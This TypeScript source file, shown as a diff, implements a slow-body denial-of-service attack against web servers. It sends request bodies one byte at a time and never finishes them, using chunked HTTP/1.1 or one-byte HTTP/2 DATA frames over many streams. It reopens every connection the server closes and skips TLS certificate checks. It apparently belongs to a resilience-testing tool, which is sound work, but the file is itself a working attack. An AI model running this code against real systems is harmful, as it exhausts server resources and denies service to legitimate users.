@@ -1,0 +1,153 @@
+/**
+ * Requests whose bodies come in pieces of one byte and never end.
+ *
+ * @module
+ */
+import { once, setMaxListeners } from 'node:events'
+import type { Duplex } from 'node:stream'
+import { connect as connectTls } from 'node:tls'
+import type { Target } from '../target.ts'
+import { openConnection, pause } from './raw-connection.ts'
+
+export interface SmallPieces {
+  readonly connections: number
+  /** HTTP/2 over TLS, or HTTP/1.1. */
+  readonly protocol: 'h2' | 'http/1.1'
+  readonly method?: string
+  readonly path?: string
+  readonly headers?: Readonly<Record<string, string>>
+  /** Bytes per second of one connection; those that the service closes are opened again. */
+  readonly bytesPerSec: number
+  /** Requests of a connection of HTTP/2 at once. */
+  readonly streams?: number
+}
+
+const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
+const [DATA, HEADERS, SETTINGS] = [0, 1, 4]
+const END_HEADERS = 4
+const STREAM_ID_AT = 5
+const FRAMES_PER_BLOCK = 256
+const BLOCKS_PER_STREAM = 16
+const CHUNKS = Buffer.from('1\r\na\r\n'.repeat(256))
+const PATH = '/video/none/playlist.m3u8'
+const TURN_MS = 20
+
+/** Ends on the signal. @returns the number of connections opened, and bytes sent */
+export async function sendSmallPieces(
+  target: Target,
+  signal: AbortSignal,
+  options: SmallPieces,
+): Promise<{ readonly opened: number; readonly sentBytes: number }> {
+  setMaxListeners(0, signal)
+  const total = { opened: 0, sentBytes: 0 }
+  const attack = async () => {
+    while (!signal.aborted) {
+      const socket = await open(target, signal, options)
+      if (socket === undefined) {
+        await pause(100, signal)
+        continue
+      }
+      total.opened++
+      total.sentBytes += await feed(socket, signal, options)
+      socket.destroy()
+    }
+  }
+  await Promise.all(Array.from({ length: options.connections }, attack))
+  return total
+}
+
+async function open(
+  target: Target,
+  signal: AbortSignal,
+  { protocol }: SmallPieces,
+): Promise<Duplex | undefined> {
+  if (protocol === 'http/1.1') return openConnection(target.httpPort, target.host, signal)
+  const socket = connectTls({
+    ...{ port: target.httpPort, host: target.host },
+    ...{ rejectUnauthorized: false, ALPNProtocols: ['h2'] },
+  })
+  socket.on('error', () => undefined)
+  signal.addEventListener('abort', () => socket.destroy(), { once: true })
+  await Promise.race([once(socket, 'secureConnect'), once(socket, 'close')]).catch(() => undefined)
+  return socket.destroyed ? undefined : socket
+}
+
+/** @returns bytes sent until the signal aborts or the service closes the connection */
+async function feed(socket: Duplex, signal: AbortSignal, options: SmallPieces): Promise<number> {
+  const { bytesPerSec, protocol } = options
+  socket.resume()
+  const blocks = protocol === 'h2' ? http2Blocks(options) : http1Blocks(options)
+  let [sentBytes, dueBytes, lastMs] = [0, 0, performance.now()]
+  while (!signal.aborted && socket.writable) {
+    const nowMs = performance.now()
+    // What a busy attacker has not sent in time is not sent later.
+    dueBytes += (Math.min(nowMs - lastMs, 2 * TURN_MS) / 1000) * bytesPerSec
+    lastMs = nowMs
+    while (dueBytes > 0 && socket.writableLength < bytesPerSec) {
+      const block = blocks.next().value
+      socket.write(block)
+      sentBytes += block.length
+      dueBytes -= block.length
+    }
+    await pause(TURN_MS, signal)
+  }
+  return sentBytes
+}
+
+function* http1Blocks({
+  method = 'GET',
+  path = PATH,
+  headers = {},
+}: SmallPieces): Generator<Buffer, never> {
+  const fields = { host: 'a', 'transfer-encoding': 'chunked', ...headers }
+  const lines = Object.entries(fields).map(([name, value]) => `${name}: ${value}\r\n`)
+  yield Buffer.from(`${method} ${path} HTTP/1.1\r\n${lines.join('')}\r\n`)
+  for (;;) yield CHUNKS
+}
+
+/** Each block brings a byte of one request after the other; the first ones begin a request, later every sixteenth. */
+function* http2Blocks({
+  method = 'GET',
+  path = PATH,
+  headers = {},
+  streams = 100,
+}: SmallPieces): Generator<Buffer, never> {
+  const fields = {
+    ':method': method,
+    ':scheme': 'https',
+    ':path': path,
+    ':authority': 'a',
+    ...headers,
+  }
+  const head = Buffer.concat(Object.entries(fields).map(([name, value]) => literal(name, value)))
+  const piece = frame(DATA, 0, 0, Buffer.from('a'))
+  const pieces = Buffer.concat(Array.from({ length: FRAMES_PER_BLOCK }, () => piece))
+  yield Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0))])
+  for (let [last, blocks] = [-1, 0]; ; blocks++) {
+    const begins = blocks < streams || blocks % BLOCKS_PER_STREAM === 0
+    if (begins) last += 2
+    const open = Math.min(streams, (last + 1) / 2)
+    for (let at = 0; at < FRAMES_PER_BLOCK; at++) {
+      pieces.writeUInt32BE(last - 2 * (at % open), at * piece.length + STREAM_ID_AT)
+    }
+    yield begins
+      ? Buffer.concat([frame(HEADERS, END_HEADERS, last, head), pieces])
+      : Buffer.from(pieces)
+  }
+}
+
+/** A frame (RFC 9113 section 4.1). */
+function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
+  const head = Buffer.alloc(9)
+  head.writeUIntBE(payload.length, 0, 3)
+  head.writeUInt8(type, 3)
+  head.writeUInt8(flags, 4)
+  head.writeUInt32BE(stream, STREAM_ID_AT)
+  return Buffer.concat([head, payload])
+}
+
+/** A header field without indexing, with a new name (RFC 7541 section 6.2.2). */
+function literal(name: string, value: string): Buffer {
+  const text = (each: string) => Buffer.concat([Buffer.of(each.length), Buffer.from(each)])
+  return Buffer.concat([Buffer.of(0), text(name), text(value)])
+}
